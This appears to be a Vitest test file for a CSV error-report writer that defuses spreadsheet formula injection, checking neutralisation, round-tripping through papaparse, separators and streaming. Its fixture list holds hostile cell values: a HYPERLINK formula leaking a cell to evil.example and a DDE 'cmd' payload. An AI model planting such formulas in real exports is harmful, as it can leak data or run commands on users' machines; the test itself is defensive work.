import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell, writeErrorReport, type ErrorReportRow } from '@/lib/import/jobs/reports/error-report';

const NASTY = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '@SUM(1)',
  '-2+3',
  "+cmd|' /C calc'!A0",
  '+44 121 496 0000',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'She said "hi", then left',
  'line one\nline two\r\nline three',
  'semi;colon',
  'comma, inside',
  "'already quoted",
  'Élodie Façade',
  '  padded  ',
  '',
];

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

const options = { labels: { line: 'Line', error: 'Error' } };

describe('neutraliseCell', () => {
  it('prefixes cells a spreadsheet would run as a formula, and only those', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell('+44 121 496 0000')).toBe("'+44 121 496 0000");
    expect(neutraliseCell('-2+3')).toBe("'-2+3");
    expect(neutraliseCell('@SUM(1)')).toBe("'@SUM(1)");
    expect(neutraliseCell('\t=1')).toBe("'\t=1");
    expect(neutraliseCell('\r=1')).toBe("'\r=1");
    for (const safe of ['Ada', '1+1', 'a=b', '', ' =1', "'=1"]) expect(neutraliseCell(safe)).toBe(safe);
  });

  it('is undone by restoreCell', () => {
    for (const value of NASTY) expect(restoreCell(neutraliseCell(value))).toBe(value);
  });
});

describe('writeErrorReport', () => {
  it('starts with a byte order mark and ends lines with CRLF', async () => {
    const text = await collect(writeErrorReport(['First Name'], [{ line: 2, cells: ['Ada'], message: 'Bad' }], options));
    expect(text).toBe('\uFEFFFirst Name,Line,Error\r\nAda,2,Bad\r\n');
  });

  it('round-trips nasty values through papaparse, neutralised and otherwise intact', async () => {
    const headers = ['=Header', 'Name', 'Phone'];
    const rows: ErrorReportRow[] = NASTY.map((value, i) => ({
      line: i + 2, cells: [value, `n${i}`, value], message: `“${value}” is not valid.`,
    }));
    for (const separator of [',', ';', '\t'] as const) {
      const text = await collect(writeErrorReport(headers, rows, { labels: { line: 'Ligne', error: 'Erreur' }, separator }));
      expect(text.startsWith('\uFEFF')).toBe(true);
      const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: separator, newline: '\r\n', skipEmptyLines: false });
      expect(parsed.errors).toEqual([]);
      const [head, ...body] = parsed.data.filter((r) => !(r.length === 1 && r[0] === ''));
      expect(head).toEqual(["'=Header", 'Name', 'Phone', 'Ligne', 'Erreur']);
      expect(body).toHaveLength(NASTY.length);
      body.forEach((cells, i) => {
        for (const cell of cells) expect(/^[=+\-@\t\r＝]/.test(cell), cell).toBe(false);
        expect(cells.map(restoreCell)).toEqual([NASTY[i], `n${i}`, NASTY[i], String(i + 2), `“${NASTY[i]}” is not valid.`]);
      });
    }
  });

  it('pads short rows and keeps extra cells after the error', async () => {
    const text = await collect(writeErrorReport(['A', 'B'], [
      { line: 3, cells: ['only'], message: 'Short' },
      { line: 4, cells: ['1', '2', '=3', '4'], message: 'Long' },
    ], options));
    const { data } = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(data).toEqual([['A', 'B', 'Line', 'Error'], ['only', '', '3', 'Short'], ['1', '2', '4', 'Long', "'=3", '4']]);
  });

  it('adds a Fixed column after Error only when asked, extra cells after it', async () => {
    const text = await collect(writeErrorReport(['A', 'B'], [
      { line: 3, cells: ['1', 'b@example.test'], message: 'Bad phone', fixed: 'B: b@exa -> b@example.test' },
      { line: 4, cells: ['1', '2', '=3'], message: 'Excluded' },
    ], { labels: { line: 'Line', error: 'Error', fixed: 'Fixed' } }));
    const { data } = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(data).toEqual([
      ['A', 'B', 'Line', 'Error', 'Fixed'],
      ['1', 'b@example.test', '3', 'Bad phone', 'B: b@exa -> b@example.test'],
      ['1', '2', '4', 'Excluded', '', "'=3"],
    ]);
    const without = await collect(writeErrorReport(['A'], [{ line: 2, cells: ['x'], message: 'Bad', fixed: 'A: y -> x' }], options));
    expect(without).toBe('\uFEFFA,Line,Error\r\nx,2,Bad\r\n');
  });

  it('streams large reports in chunks', async () => {
    async function* many() {
      for (let i = 0; i < 5000; i++) yield { line: i + 2, cells: [`value ${i}`, 'x'.repeat(50)], message: 'Bad e-mail' };
    }
    const chunks: string[] = [];
    for await (const chunk of writeErrorReport(['A', 'B'], many(), options)) chunks.push(chunk);
    expect(chunks.length).toBeGreaterThan(3);
    const { data } = Papa.parse<string[]>(chunks.join('').slice(1), { skipEmptyLines: true });
    expect(data).toHaveLength(5001);
    expect(data[5000]).toEqual(['value 4999', 'x'.repeat(50), '5001', 'Bad e-mail']);
  });
});
